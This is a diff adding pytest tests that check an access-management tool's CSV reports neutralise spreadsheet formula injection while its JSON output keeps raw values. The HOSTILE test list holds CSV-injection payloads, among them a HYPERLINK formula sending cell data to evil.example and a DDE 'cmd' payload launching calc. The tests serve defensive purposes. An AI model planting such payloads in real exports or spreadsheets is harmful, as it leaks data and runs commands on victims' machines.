@@ -152,3 +152,43 @@ def test_sla_report_lists_every_leaver_of_the_month(setup: tuple[Runtime, Path],
     assert cli.main(["--config", str(path), "report", "sla", "--month", "2026-02"]) == 0
     assert "1 leaver(s)" in capsys.readouterr().out
     assert cli.main(["--config", str(path), "report", "sla", "--month", "March"]) == 2
+
+
+# ---- issue 14 finding 5: no formula reaches a spreadsheet (OWASP CSV injection) ----------
+HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+           "\t=1+1", "\r=1+1", "=1+1"]
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_access_csv_neutralises_formulas(setup: tuple[Runtime, Path], value: str) -> None:
+    rt, _ = setup
+    rt.store.save_people([PersonSave(PersonState("E3", Person("E3", Status.ACTIVE, first_name=value, last_name="",
+                                                              work_email=value)), None, None)], T0)
+    op = Operation("demo", Action.CREATE, "E3", {"username": value, "active": True, "attributes": {}})
+    rt.store.record_success(op, "r-E3", at(0))
+    rt.store.record_success(Operation("demo", Action.ADD_MEMBER, "E3", {"username": value, "group": value,
+                                                                        "rule": value}), None, at(0))
+    out = io.StringIO()
+    reports.access(rt, out, fmt="csv")
+    every = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
+    assert {r["employee_id"] for r in every} == {"E1", "E2", "E3"}  # a CR inside a cell splits no row
+    rows = [r for r in every if r["employee_id"] == "E3"]
+    assert len(rows) == 1
+    for r in rows:
+        for col in ("name", "email", "username", "grant", "rule"):
+            cell = r[col]
+            assert cell, col
+            assert cell[0] not in "=+-@\t\r", (col, cell)
+            assert cell == "'" + value.strip() or cell == "'" + value, (col, cell)
+    # JSON is data, not a spreadsheet: it keeps the values as they are.
+    out = io.StringIO()
+    reports.access(rt, out, fmt="json")
+    [e3] = [a for a in json.loads(out.getvalue())["accounts"] if a["employee_id"] == "E3"]
+    assert e3["username"] == value
+
+
+def test_access_csv_leaves_ordinary_cells_alone(setup: tuple[Runtime, Path]) -> None:
+    rt, _ = setup
+    out = io.StringIO()
+    reports.access(rt, out, fmt="csv")
+    assert "'" not in out.getvalue()
